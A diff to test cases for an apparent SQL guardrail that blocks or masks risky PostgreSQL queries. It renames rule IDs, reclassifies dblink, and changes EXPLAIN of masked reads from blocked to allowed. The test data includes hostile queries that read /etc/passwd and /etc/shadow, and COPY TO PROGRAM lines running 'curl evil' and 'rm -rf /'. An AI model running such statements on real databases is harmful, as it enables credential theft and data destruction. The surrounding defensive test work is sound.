@@ -307,46 +307,48 @@ for sql in [
 
 # -- functions that reach files, processes or run dynamic SQL --
 for sql, rule in [
-    ("SELECT pg_read_file('/etc/passwd')", "default.function.server_access"),
-    ("SELECT pg_catalog.pg_read_file('postgresql.conf')", "default.function.server_access"),
-    ("SELECT pg_read_binary_file('/etc/shadow')", "default.function.server_access"),
-    ("SELECT * FROM pg_ls_dir('.')", "default.function.server_access"),
-    ("SELECT pg_stat_file('base')", "default.function.server_access"),
-    ("SELECT lo_import('/etc/passwd')", "default.function.server_access"),
-    ("SELECT lo_export(1, '/tmp/x')", "default.function.server_access"),
-    ("SELECT pg_terminate_backend(123)", "default.function.server_access"),
-    ("SELECT pg_cancel_backend(pid) FROM pg_stat_activity", "default.function.server_access"),
-    ("SELECT pg_reload_conf()", "default.function.server_access"),
-    ("SELECT dblink('host=x', 'select 1')", "default.function.server_access"),
-    ("SELECT dblink_exec('host=x', 'drop table t')", "default.function.server_access"),
-    ("SELECT \"pg_read_file\"('/etc/passwd')", "default.function.server_access"),
-    ("SELECT PG_READ_FILE('/etc/passwd')", "default.function.server_access"),
+    ("SELECT pg_read_file('/etc/passwd')", "floor.server_access"),
+    ("SELECT pg_catalog.pg_read_file('postgresql.conf')", "floor.server_access"),
+    ("SELECT pg_read_binary_file('/etc/shadow')", "floor.server_access"),
+    ("SELECT * FROM pg_ls_dir('.')", "floor.server_access"),
+    ("SELECT pg_stat_file('base')", "floor.server_access"),
+    ("SELECT lo_import('/etc/passwd')", "floor.server_access"),
+    ("SELECT lo_export(1, '/tmp/x')", "floor.server_access"),
+    ("SELECT pg_terminate_backend(123)", "floor.server_access"),
+    ("SELECT pg_cancel_backend(pid) FROM pg_stat_activity", "floor.server_access"),
+    ("SELECT pg_reload_conf()", "floor.server_access"),
+    # Not a built-in (an extension's): refused unless a guardrail names it.
+    ("SELECT dblink('host=x', 'select 1')", "default.function.unlisted"),
+    ("SELECT dblink_exec('host=x', 'drop table t')", "default.function.unlisted"),
+    ("SELECT public.lower('X')", "default.function.unlisted"),
+    ("SELECT \"pg_read_file\"('/etc/passwd')", "floor.server_access"),
+    ("SELECT PG_READ_FILE('/etc/passwd')", "floor.server_access"),
     (
         "SELECT id FROM orders WHERE pg_read_file('/etc/passwd') IS NOT NULL",
-        "default.function.server_access",
+        "floor.server_access",
     ),
     (
         "WITH x AS (SELECT pg_read_file('/etc/hosts')) SELECT * FROM x",
-        "default.function.server_access",
+        "floor.server_access",
     ),
-    ("SELECT 1; SELECT pg_ls_dir('/')", "default.function.server_access"),
+    ("SELECT 1; SELECT pg_ls_dir('/')", "floor.server_access"),
     (
         "SELECT query_to_xml('select * from customers', true, true, '')",
-        "default.function.dynamic_sql",
+        "mask.dynamic_sql",
     ),
-    ("SELECT table_to_xml('customers', true, true, '')", "default.function.dynamic_sql"),
-    ("SELECT cursor_to_xml('c', 10, true, true, '')", "default.function.dynamic_sql"),
-    ("SELECT database_to_xml(true, true, '')", "default.function.dynamic_sql"),
+    ("SELECT table_to_xml('customers', true, true, '')", "mask.dynamic_sql"),
+    ("SELECT cursor_to_xml('c', 10, true, true, '')", "mask.dynamic_sql"),
+    ("SELECT database_to_xml(true, true, '')", "mask.dynamic_sql"),
     (
         "SELECT * FROM ts_stat('SELECT to_tsvector(email) FROM customers')",
-        "default.function.dynamic_sql",
+        "mask.dynamic_sql",
     ),
     ("COPY orders TO '/tmp/orders.csv'", "default.copy_server_side"),
     ("COPY orders FROM '/tmp/orders.csv'", "default.copy_server_side"),
     ("COPY orders TO PROGRAM 'curl evil'", "default.copy_server_side"),
     ("COPY (SELECT 1) TO PROGRAM 'rm -rf /'", "default.copy_server_side"),
-    ("EXPLAIN SELECT pg_read_file('x')", "default.function.server_access"),
-    ("PREPARE p AS SELECT pg_read_file($1)", "default.function.server_access"),
+    ("EXPLAIN SELECT pg_read_file('x')", "floor.server_access"),
+    ("PREPARE p AS SELECT pg_read_file($1)", "floor.server_access"),
 ]:
     CASES.append(C(sql, "block", rules=(rule,)))
 
@@ -429,6 +431,15 @@ for sql in CLASSIFIED_READS:
     if sql.startswith(("CREATE TEMP TABLE", "SELECT * INTO")):
         action = "review"  # DDL in production
     CASES.append(C(sql, action, rewritten=True))
+# The plan of a masked read shows the masking expressions, and no key: hashing is keyed
+# inside the database, so EXPLAIN is allowed like the read itself.
+for sql in [
+    "EXPLAIN SELECT email FROM customers",
+    "EXPLAIN ANALYZE SELECT email FROM customers WHERE id = 1",
+    "EXPLAIN (VERBOSE) SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id",
+    "EXPLAIN SELECT * FROM hr.employees",
+]:
+    CASES.append(C(sql, "allow", rewritten=True))
 # The exempt identity sees the same statements untouched except for the columns it is
 # not exempt from (the restricted profile and the token have no exemption).
 for sql in [
@@ -534,14 +545,7 @@ for sql, rule in [
     ("SELECT query FROM pg_stat_activity", "mask.value_catalog"),
     ("SELECT * FROM pg_statistic", "mask.value_catalog"),
     ("SELECT * FROM my_function()", "mask.opaque_table_function"),
-    ("EXPLAIN SELECT email FROM customers", "mask.explain_rewritten"),
-    ("EXPLAIN ANALYZE SELECT email FROM customers WHERE id = 1", "mask.explain_rewritten"),
-    (
-        "EXPLAIN (VERBOSE) SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id",
-        "mask.explain_rewritten",
-    ),
     ("SELECT current_query(), phone FROM customers WHERE id = 1", "mask.statement_text"),
-    ("EXPLAIN SELECT * FROM hr.employees", "mask.explain_rewritten"),
     ("SELECT * FROM orders, LATERAL leak_everything(orders.id)", "mask.opaque_table_function"),
 ]:
     CASES.append(C(sql, "block", rules=(rule,)))
